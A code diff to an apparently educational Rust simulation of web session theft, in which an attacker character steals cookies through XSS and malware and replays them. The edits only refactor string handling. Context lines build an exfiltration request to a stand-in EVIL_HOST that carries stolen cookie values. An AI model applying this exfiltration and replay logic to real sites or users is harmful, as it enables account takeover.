@@ -344,7 +344,7 @@ impl World {
             Action::RotateKey { server, graceful } => {
                 self.key_serial += 1;
                 let key = SigningKey::new(format!("k{}", self.key_serial), demo_secret(&mut self.rng));
-                let line = LogLine::Event(TokenNote::KeyRotated { kid: Text::from(key.kid.clone()), graceful }.into());
+                let line = LogLine::Event(TokenNote::KeyRotated { kid: Text::copy(&key.kid), graceful }.into());
                 match server {
                     Some(i) => {
                         if let Some(s) = self.servers.get_mut(i as usize) {
@@ -600,7 +600,7 @@ impl World {
             self.attacker.take(Loot { source: Source::Xss, credential });
         }
         let hidden: Vec<Text> =
-            self.browser.jar.iter().filter(|c| c.http_only).map(|c| Text::from(c.name.clone())).collect();
+            self.browser.jar.iter().filter(|c| c.http_only).map(|c| Text::cookie_name(&c.name)).collect();
         let summary: Note = AttackerNote::ScriptRead { got, hidden }.into();
         self.attacker.last_attempt = Some(summary.clone());
         let raw = format!("GET /collect?{} HTTP/1.1\r\nHost: {EVIL_HOST}\r\n\r\n", payload.join("&"));
@@ -662,7 +662,7 @@ impl World {
                 self.attacker.take(Loot { source: Source::Malware, credential: credential.clone() });
                 AttackerNote::CookieCopied(credential)
             }
-            None => AttackerNote::NoCookieToCopy { name: Text::from(name.to_string()) },
+            None => AttackerNote::NoCookieToCopy { name: Text::cookie_name(name) },
         };
         self.attacker.last_attempt = Some(note.into());
     }
@@ -674,9 +674,7 @@ impl World {
             let cookies = ex
                 .request
                 .header(&COOKIE)
-                .map(|h| {
-                    h.split("; ").filter_map(|kv| kv.split('=').next()).map(|n| Text::from(n.to_string())).collect()
-                })
+                .map(|h| h.split("; ").filter_map(|kv| kv.split('=').next()).map(Text::cookie_name).collect())
                 .unwrap_or_default();
             let status = ex.response.status.as_u16();
             self.attacker.last_attempt = Some(AttackerNote::ScriptSent { status, cookies }.into());
@@ -698,9 +696,9 @@ impl World {
         let ex = self.send(Actor::Attacker, req, AttackerNote::Replaying(credential.clone()).into());
         let outcome = match ex.response.reason.clone() {
             Some(why) => Some(why),
-            None => serde_json::from_str::<serde_json::Value>(&ex.response.body).ok().and_then(|b| {
-                b.get("user")?.as_str().map(|u| SiteNote::LoggedInAs { user: Text::from(u.to_string()) }.into())
-            }),
+            None => serde_json::from_str::<serde_json::Value>(&ex.response.body)
+                .ok()
+                .and_then(|b| b.get("user")?.as_str().map(|u| SiteNote::LoggedInAs { user: Text::copy(u) }.into())),
         };
         self.attacker.last_replay = Some(Replay { status: ex.response.status.as_u16(), outcome, used: credential });
         let hops = ex.hops.clone();
